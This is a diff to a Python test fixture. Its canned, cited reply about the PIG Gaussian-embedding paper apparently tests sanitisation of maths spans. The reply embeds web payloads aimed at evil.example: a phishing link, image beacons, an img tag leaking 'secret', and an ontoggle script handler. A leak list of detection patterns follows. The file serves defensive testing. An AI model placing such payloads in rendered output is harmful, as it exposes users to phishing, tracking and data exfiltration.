@@ -76,15 +76,17 @@ MATHS_PAPER: dict[str, Any] = {
     "year": 2024,
 }
 
-# What the issue found getting through a maths span, one sentence each, cited so that none is dropped.
+# What the issue found getting through a maths span, one sentence each, cited so that none is dropped:
+# each says what the PIG paper says (the verification core keeps only those), around its payload.
 MATHS_REPLY = (
-    "PIG makes the mesh learnable: Gaussians whose means and variances are trained [1]. "
-    "Its loss sums $\\sum_{i} w_i \\, r_i^2$ over $k < n$ Gaussians [1]. "
-    "The method is described $[click here](https&#58;//evil.example/phish)$ in the paper [1]. "
-    "The mesh $![a](//evil.example/t.png)$ is replaced by Gaussians [1]. "
-    "Positions $<img src=https://evil.example/leak.png?q=secret>$ are learned [1]. "
-    "Widths $<image href=//evil.example/i.png>$ and $<video poster=//evil.example/p.png>$ adapt [1]. "
-    "Residuals $<details open ontoggle=alert(1)>$ shrink [1]."
+    "PIG combines Gaussian feature embeddings with a lightweight neural network [1]. "
+    "The mean and variance of each Gaussian, $\\sum_{i} w_i \\, r_i^2$ over $k < n$ Gaussians, are trainable [1]. "
+    "PINNs suffer $[click here](https&#58;//evil.example/phish)$ from the spectral bias of MLPs [1]. "
+    "The approach $![a](//evil.example/t.png)$ keeps the optimization framework used in PINNs [1]. "
+    "Positions $<img src=https://evil.example/leak.png?q=secret>$ and shapes adjust during training [1]. "
+    "Experiments $<image href=//evil.example/i.png>$ and $<video poster=//evil.example/p.png>$ show competitive "
+    "performance across various PDEs [1]. "
+    "PINNs have limited accuracy $<details open ontoggle=alert(1)>$ on complex PDEs [1]."
 )
 MATHS_LEAKS = (EVIL, "ontoggle", "&#58;", "<img", "<image", "<video", "<details", "](")
 
